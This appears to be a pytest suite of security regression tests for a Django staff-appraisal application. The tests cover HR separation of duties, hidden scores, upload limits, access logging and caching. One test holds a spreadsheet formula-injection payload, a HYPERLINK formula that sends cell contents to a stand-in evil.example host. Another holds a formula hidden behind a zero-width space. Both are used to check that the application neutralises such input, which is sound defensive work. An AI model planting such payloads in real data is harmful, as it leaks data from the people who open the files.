"""What an outside probe got through (about 54,000 requests, 11 roles, both databases): each
finding is a refusal or a fix now, and each test here failed before it. Numbers follow the
security issue's list; DOMAIN §8 (separation of duties) and §5 (informing) are the rules."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from appraisal.models import AppraisalForm, IdpRow, JournalEntry, State
from appraisal.services.review import form_acknowledge, form_review_higher
from appraisal.services.round_phases import round_advance, round_release
from appraisal.services.rounds import round_committee_add
from common.errors import DomainError
from common.inputs import parse_id, required_text
from common.models import AccessRecord, DataAccess
from orgchart import services as org_services
from orgchart.models import HrScope
from tests.appraisal.conftest import appraisal_world, form_of
from tests.factories import informed
from tests.orgchart.test_import import assert_rejected, csv_bytes
from tests.reports.access_reports import done_job

pytestmark = pytest.mark.django_db


@pytest.fixture
def world(org):
    return appraisal_world(org)


def make_hr(person, unit):
    """The person becomes an HR officer of the unit's subtree (their user gets the scope)."""
    HrScope.objects.create(user=person.user, unit=unit)
    person.user.__dict__.pop("_pms_roles", None)  # roles are read once per user object
    return person.user


def login(client, user):
    client.force_login(user)
    return client


# --- 2. an HR officer and their own appraisal --------------------------------------------------


def test_2_an_hr_officer_cannot_change_their_own_evaluator_or_see_their_own_score(client, world):
    o = world
    me = make_hr(o.s3, o.dept)  # s3's form f3 is scored, not informed, not released
    login(client, me)
    url = reverse("appraisal:form_evaluator", args=[o.f3.pk])
    assert client.get(url).status_code == 403
    response = client.post(
        url, {"evaluator_code": o.director.staff_code, "higher_code": "", "reason": "ขอเปลี่ยน"}
    )
    assert response.status_code == 403
    o.f3.refresh_from_db()
    assert o.f3.evaluator == o.div1_head
    override = reverse("orgchart:person_evaluator", args=[o.s3.pk])
    assert client.get(override).status_code == 403
    assert client.post(override, {"evaluator_code": o.director.staff_code}).status_code == 403
    o.s3.refresh_from_db()
    assert o.s3.evaluator_override is None
    with pytest.raises(PermissionDenied):
        org_services.person_set_evaluator(person=o.s3, evaluator=o.director, actor=me)
    # Through the HR role they still see only what the appraisee sees.
    page = client.get(reverse("appraisal:form", args=[o.f3.pk])).content.decode()
    assert 'id="score-hidden"' in page and 'id="total"' not in page and "86.00" not in page
    assert client.get(reverse("appraisal:form_history", args=[o.f3.pk])).status_code == 403
    assert client.get(reverse("reports:form_summary", args=[o.f3.pk])).status_code == 403
    listing = client.get(reverse("appraisal:round_forms", args=[o.round.pk])).content.decode()
    assert o.s3.first_name in listing and "86.00" not in listing
    # HR's other work is untouched: s1's evaluator page still opens for them.
    assert client.get(reverse("appraisal:form_evaluator", args=[o.f1.pk])).status_code == 200


def test_2_an_hr_officer_does_not_release_their_own_form(world):
    o = world
    me = make_hr(o.s3, o.dept)
    f3 = informed(o.f3)
    f3 = form_acknowledge(actor=o.s3.user, form=f3, expected_version=f3.version)
    form_review_higher(actor=o.director.user, form=f3, expected_version=f3.version, agrees=True)
    round_advance(actor=o.hr, rnd=o.round)  # evaluation -> review
    assert round_release(actor=me, rnd=o.round) == 0
    assert AppraisalForm.objects.get(pk=f3.pk).state == State.REVIEWED
    assert round_release(actor=o.hr, rnd=o.round) == 1  # another officer releases it


# --- 3. the IDP and the comments before informing ----------------------------------------------


def test_3_the_idp_and_comment_reach_the_appraisee_only_once_informed(client, world):
    o = world
    IdpRow.objects.create(
        form=o.f3, topic="การทำงานเป็นทีม (จากระดับ 2 สู่ระดับ 3)", method="อบรม", order=0
    )
    AppraisalForm.objects.filter(pk=o.f3.pk).update(evaluator_comment="ควรพัฒนาการทำงานเป็นทีม")
    url = reverse("appraisal:form", args=[o.f3.pk])
    login(client, o.s3.user)
    page = client.get(url).content.decode()
    assert "จากระดับ 2 สู่ระดับ 3" not in page and "ควรพัฒนาการทำงานเป็นทีม" not in page
    informed(o.f3)
    page = client.get(url).content.decode()
    assert "จากระดับ 2 สู่ระดับ 3" in page and "ควรพัฒนาการทำงานเป็นทีม" in page


# --- 4. spreadsheets carry data, never formulas ------------------------------------------------


def test_4_the_results_workbook_writes_a_formula_looking_name_as_text(client, world):
    o = world
    evil = '=HYPERLINK("http://evil.example/?d="&B5&C5,"คลิก")'
    org_services.unit_update(unit=o.div1, name=evil, actor=o.hr)
    login(client, o.hr)
    response = client.get(reverse("reports:unit_xlsx", args=[o.round.pk, o.div1.pk]))
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert texts and all(c.data_type == "s" for c in texts)
    assert all(c.quotePrefix for c in texts if c.value.startswith("="))


def test_4_the_import_sees_a_formula_behind_a_zero_width_space(org):
    header = ["รหัสหน่วยงาน", "รหัสบุคลากร", "คำนำหน้า", "ชื่อ", "นามสกุล"]
    data = csv_bytes([["DEPT-01-1", "7101", "นาย", "\u200b=1+1", "ทดสอบ"]], header=header)
    assert_rejected(data, row=2, column="ชื่อ", text="ช่องนี้เป็นสูตร", user=org.hr)


# --- 5. the committee -------------------------------------------------------------------------


def test_5_a_committee_member_does_not_see_their_own_unreleased_result(client, world):
    o = world
    round_committee_add(
        actor=o.hr, rnd=o.round, expected_version=o.round.version, staff_code=o.s3.staff_code
    )
    url = reverse("appraisal:distribution", args=[o.round.pk])
    login(client, o.s3.user)
    page = client.get(url).content.decode()
    assert 'id="own-left-out"' in page
    names = page.split('id="names"', 1)[1]
    assert o.s3.first_name not in names and 'id="names-count">0<' in page
    assert 'id="dept-total">0<' in page  # f3 is the only scored form
    login(client, o.hr)
    page = client.get(url).content.decode()
    assert o.s3.first_name in page.split('id="names"', 1)[1]
    assert 'id="dept-total">1<' in page and 'id="own-left-out"' not in page


def test_5_hr_cannot_seat_themselves_on_the_committee(world):
    o = world
    me = make_hr(o.s3, o.dept)
    with pytest.raises(DomainError, match="แต่งตั้งตนเอง"):
        round_committee_add(
            actor=me, rnd=o.round, expected_version=o.round.version, staff_code=o.s3.staff_code
        )


# --- 6. three roles, three people --------------------------------------------------------------


def test_6_the_level_above_is_skipped_when_hr_makes_them_the_higher_supervisor(client, world):
    o = world
    assert (o.f1.evaluator, o.f1.higher, o.f1.higher2) == (o.grp1_head, o.div1_head, o.director)
    login(client, o.hr)
    response = client.post(
        reverse("appraisal:form_evaluator", args=[o.f1.pk]),
        {
            "evaluator_code": o.div1_head.staff_code,
            "higher_code": o.director.staff_code,
            "reason": "หัวหน้ากลุ่มลาศึกษาต่อ",
        },
    )
    assert response.status_code == 302
    o.f1.refresh_from_db()
    people = [p for p in (o.f1.evaluator, o.f1.higher, o.f1.higher2) if p is not None]
    assert len(people) == len({p.pk for p in people}) == 2


# --- 7. linking an account across scopes -------------------------------------------------------


def test_7_hr_cannot_link_an_unlinked_account_of_someone_else(org):
    header = ["รหัสหน่วยงาน", "รหัสบุคลากร", "คำนำหน้า", "ชื่อ", "นามสกุล", "ชื่อผู้ใช้"]
    # hr_div2 is another officer's account, linked to no person.
    data = csv_bytes([["DEPT-01-1", "7201", "นาย", "ใหม่", "ทดสอบ", "hr_div2"]], header=header)
    assert_rejected(data, row=2, column="ชื่อผู้ใช้", text="ผู้ดูแลระบบเท่านั้น", user=org.hr)


# --- 8. a report outlives its right ------------------------------------------------------------


def test_8_a_book_is_not_downloaded_after_the_scope_that_built_it_is_gone(client, world):
    o = world
    officer = make_hr(o.s4, o.div1)
    job = done_job(o, unit=o.div1, owner=officer)
    login(client, officer)
    url = reverse("reports:job_download", args=[job.pk])
    assert client.get(url).status_code == 200
    # Another officer whose scope covers the unit does not download this officer's book.
    login(client, o.hr)
    assert client.get(url).status_code == 403
    HrScope.objects.filter(user=officer).update(unit=o.div2)
    client.force_login(officer)
    assert client.get(url).status_code == 404
    assert client.get(reverse("reports:job", args=[job.pk])).status_code == 404


# --- 9. blank reasons ------------------------------------------------------------------------


@pytest.mark.parametrize("reason", ["\u200b", " \u200b\u200c ", "\ufeff", "\u00ad"])
def test_9_an_invisible_reason_is_blank(reason):
    with pytest.raises(DomainError, match="กรุณาระบุ"):
        required_text(reason, "เหตุผล", field="reason")


def test_9_reopening_a_round_with_an_invisible_or_nul_reason_is_refused_in_thai(client, world):
    o = world
    AppraisalForm.objects.filter(round=o.round).update(state=State.RELEASED)
    o.round.refresh_from_db()
    round_advance(actor=o.hr, rnd=o.round)
    round_advance(actor=o.hr, rnd=o.round)
    from appraisal.services.round_phases import round_close

    round_close(actor=o.hr, rnd=o.round)
    login(client, o.hr)
    url = reverse("appraisal:round_phase", args=[o.round.pk])
    for reason in ("\u200b", "เหตุผล\x00"):
        response = client.post(url, {"action": "reopen", "reason": reason}, follow=True)
        assert response.status_code in (200, 400)
        assert "กรุณาระบุ" in response.content.decode() or "อักขระที่ไม่อนุญาต" in (
            response.content.decode()
        )
        o.round.refresh_from_db()
        assert o.round.is_closed


# --- 10. server errors -------------------------------------------------------------------------


def test_10_the_achievement_form_of_someone_with_no_evaluator_prints(client, world):
    o = world
    f = form_of(o.round, o.director)
    assert f.evaluator is None
    login(client, o.hr)
    response = client.get(reverse("reports:form_achievement", args=[f.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"


@pytest.mark.parametrize("value", ["²", "①", "๑๒", "1_0", "9" * 5000, "-1", " 1 2"])
def test_10_team_approve_takes_only_plain_integers(client, world, value):
    o = world
    login(client, o.grp1_head.user)
    response = client.post(reverse("appraisal:team_approve"), {"forms": [value], "round": value})
    assert response.status_code == 302
    o.f2.refresh_from_db()
    assert o.f2.state == State.SUBMITTED


@pytest.mark.parametrize("value", ["²", "①", "๑๒", "9" * 5000, "12\x00"])
def test_10_parse_id_refuses_what_is_not_a_plain_ascii_integer(value):
    assert parse_id(value) is None


def test_10_nul_in_a_query_or_a_form_is_a_thai_400_not_a_500(client, world):
    o = world
    login(client, o.hr)
    for url in (
        reverse("orgchart:tree") + "?q=%00",
        reverse("appraisal:round_console", args=[o.round.pk]) + "?q=a%00b",
        reverse("appraisal:round_forms", args=[o.round.pk]) + "?q=%00&who=%00",
    ):
        response = client.get(url)
        assert response.status_code == 400, url
        assert "อักขระที่ไม่อนุญาต" in response.content.decode()
    response = client.post(
        reverse("appraisal:round_settings", args=[o.round.pk]), {"staff_code": "0004\x00"}
    )
    assert response.status_code == 400


# --- 11. big uploads -------------------------------------------------------------------------


def test_11_a_60_mb_upload_is_refused_before_it_is_read(client, world):
    o = world
    login(client, o.s1.user)
    before = JournalEntry.objects.count()
    response = client.post(
        reverse("appraisal:journal", args=[o.f1.pk]),
        data=b"x" * 1024,
        content_type="multipart/form-data; boundary=xyz",
        CONTENT_LENGTH=str(60 * 1024 * 1024),
    )
    assert response.status_code == 413
    assert "ขนาดใหญ่เกินไป" in response.content.decode()
    assert JournalEntry.objects.count() == before


# --- 12. who read whose data -------------------------------------------------------------------


def test_12_reading_another_persons_form_pdf_or_history_is_logged(client, world):
    o = world
    login(client, o.hr)
    client.get(reverse("appraisal:form", args=[o.f3.pk]))
    client.get(reverse("reports:form_summary", args=[o.f3.pk]))
    client.get(reverse("appraisal:form_history", args=[o.f3.pk]))
    client.get(reverse("appraisal:evidence", args=[o.entry.pk]))
    rows = list(AccessRecord.objects.order_by("id"))
    assert [(r.what, r.subject_name) for r in rows] == [
        (DataAccess.FORM, o.s3.full_name),
        (DataAccess.FORM_PDF, o.s3.full_name),
        (DataAccess.HISTORY, o.s3.full_name),
        (DataAccess.EVIDENCE, o.s1.full_name),
    ]
    assert all(r.user == o.hr for r in rows)
    # Their own form: nothing to log.
    login(client, o.s1.user)
    client.get(reverse("appraisal:form", args=[o.f1.pk]))
    assert AccessRecord.objects.count() == 4
    # Administrators read the log; HR does not.
    changelist = reverse("admin:common_accessrecord_changelist")
    login(client, o.admin)
    assert client.get(changelist).status_code == 200
    login(client, o.hr)
    assert client.get(changelist).status_code in (302, 403)


def test_12_old_access_records_are_pruned(db, settings):
    old = AccessRecord.objects.create(what=DataAccess.FORM, subject_type="person", subject_id="1")
    AccessRecord.objects.filter(pk=old.pk).update(at=timezone.now() - dt.timedelta(days=800))
    AccessRecord.objects.create(what=DataAccess.FORM, subject_type="person", subject_id="2")
    settings.ACCESS_LOG_DAYS = 730
    out = io.StringIO()
    call_command("prune_access_log", stdout=out)
    assert list(AccessRecord.objects.values_list("subject_id", flat=True)) == ["2"]
    assert "1 รายการ" in out.getvalue()


# --- 13. caching ---------------------------------------------------------------------------


def test_13_pages_with_personal_data_are_never_stored(client, world):
    o = world
    login(client, o.div1_head.user)
    for url in (
        reverse("appraisal:form", args=[o.f3.pk]),
        reverse("appraisal:form_history", args=[o.f3.pk]),
        reverse("appraisal:score", args=[o.f3.pk]),
        reverse("appraisal:team"),
        reverse("home"),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Cache-Control"] == "private, no-store", url


# --- the appraisee sees what they sign (DOMAIN §5) -------------------------------------------


def test_informing_cannot_be_dated_before_the_scoring_or_in_the_future(world):
    o = world
    from appraisal.services.review import form_inform

    today = timezone.localdate()
    for day in (today - dt.timedelta(days=1), today + dt.timedelta(days=1)):
        with pytest.raises(DomainError) as exc:
            form_inform(
                actor=o.div1_head.user, form=o.f3, expected_version=o.f3.version, informed_on=day
            )
        assert exc.value.field == "informed_on"
    with pytest.raises(PermissionDenied):
        form_inform(actor=o.s3.user, form=o.f3, expected_version=o.f3.version, informed_on=today)
    f3 = form_inform(
        actor=o.div1_head.user, form=o.f3, expected_version=o.f3.version, informed_on=today
    )
    assert f3.informed_on == today and f3.is_informed
    assert Decimal(f3.total) == Decimal("86")


# --- found by the second probe (as an attacker, after the fixes above) -------------------------


def test_2_the_round_audit_leaves_out_the_officers_own_unreleased_form(client, world):
    o = world
    me = make_hr(o.s3, o.dept)
    url = reverse("appraisal:round_audit", args=[o.round.pk]) + f"?who={o.s3.staff_code}"
    login(client, o.hr)
    assert "86.00" in client.get(url).content.decode()  # the total the evaluator saved
    login(client, me)
    assert "86.00" not in client.get(url).content.decode()


def test_2_moving_the_round_to_released_skips_the_officers_own_form(world):
    o = world
    me = make_hr(o.s3, o.dept)
    f3 = informed(o.f3)
    f3 = form_acknowledge(actor=o.s3.user, form=f3, expected_version=f3.version)
    form_review_higher(actor=o.director.user, form=f3, expected_version=f3.version, agrees=True)
    round_advance(actor=o.hr, rnd=o.round)  # evaluation -> review
    o.round.refresh_from_db()
    round_advance(actor=me, rnd=o.round)  # review -> released, by s3 as HR
    assert AppraisalForm.objects.get(pk=f3.pk).state == State.REVIEWED
    assert round_release(actor=o.hr, rnd=o.round) == 1


def test_2_an_officer_cannot_change_their_own_evaluator_through_a_units_head(client, world):
    o = world
    me = make_hr(o.s3, o.dept)  # s3 is in grp2 (no head): evaluated by div1_head
    with pytest.raises(DomainError, match="ท่านดำเนินการเองไม่ได้"):
        org_services.unit_update(unit=o.grp2, acting_head=o.s1, actor=me)
    o.grp2.refresh_from_db()
    assert o.grp2.acting_head is None
    with pytest.raises(DomainError, match="ท่านดำเนินการเองไม่ได้"):
        org_services.unit_update(unit=o.div1, head=o.grp1_head, actor=me)
    # Another unit's head, which is not above s3, is theirs to change.
    org_services.unit_update(unit=o.div2, acting_head=o.s4, actor=me)


def test_7_the_import_cannot_change_the_importers_own_evaluator(org):
    from orgchart.import_service import ImportRejected, org_import
    from tests.orgchart.test_import import plan_of

    me = make_hr(org.s3, org.dept)
    header = ["รหัสหน่วยงาน", "รหัสบุคลากร", "คำนำหน้า", "ชื่อ", "นามสกุล", "บทบาทในหน่วยงาน"]
    data = csv_bytes([["DEPT-01-2", "0004", "นาย", "สมชาย", "ทดสอบ", "หัวหน้า"]], header=header)
    plan = plan_of(data, user=me)
    assert plan.errors == []
    with pytest.raises(ImportRejected, match="ท่านดำเนินการเองไม่ได้"):
        org_import(plan=plan, actor=me)
    org.grp2.refresh_from_db()
    assert org.grp2.head is None


def test_12_the_salary_page_and_the_round_audit_are_logged(client, world):
    o = world
    login(client, o.hr)
    client.get(reverse("orgchart:person", args=[o.s1.pk]))
    client.get(reverse("appraisal:round_audit", args=[o.round.pk]))
    assert list(AccessRecord.objects.values_list("what", flat=True).order_by("id")) == [
        DataAccess.SALARY,
        DataAccess.ROUND_AUDIT,
    ]
    login(client, o.s1.user)
    client.get(reverse("orgchart:person", args=[o.s1.pk]))  # their own salary
    assert AccessRecord.objects.count() == 2


def test_2_the_unit_report_and_the_book_leave_out_the_officers_own_result(client, world, tmp_path):
    o = world
    me = make_hr(o.s3, o.dept)
    login(client, me)
    response = client.get(reverse("reports:unit_xlsx", args=[o.round.pk, o.div1.pk]))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    results = [[c.value for c in r] for r in book.worksheets[0].iter_rows()]
    mine = next(r for r in results if o.s3.full_name in r)
    assert not {"86.00", Decimal("86"), 86, "ดีมาก"} & set(mine)
    counts = {r[0]: r[1] for r in book.worksheets[1].iter_rows(values_only=True)}
    assert counts["รวมผู้ที่ได้รับการประเมิน"] == 0
    login(client, o.hr)
    response = client.get(reverse("reports:unit_xlsx", args=[o.round.pk, o.div1.pk]))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    counts = {r[0]: r[1] for r in book.worksheets[1].iter_rows(values_only=True)}
    assert counts["รวมผู้ที่ได้รับการประเมิน"] == 1

    from reports import book as books

    stats = books.build_unit_book(
        o.round, o.div1, tmp_path / "mine.pdf", viewer=o.s3, scored_only=True
    )
    assert stats.people == 0  # f3, the only scored form, is s3's own
    stats = books.build_unit_book(o.round, o.div1, tmp_path / "hr.pdf", scored_only=True)
    assert stats.people == 1
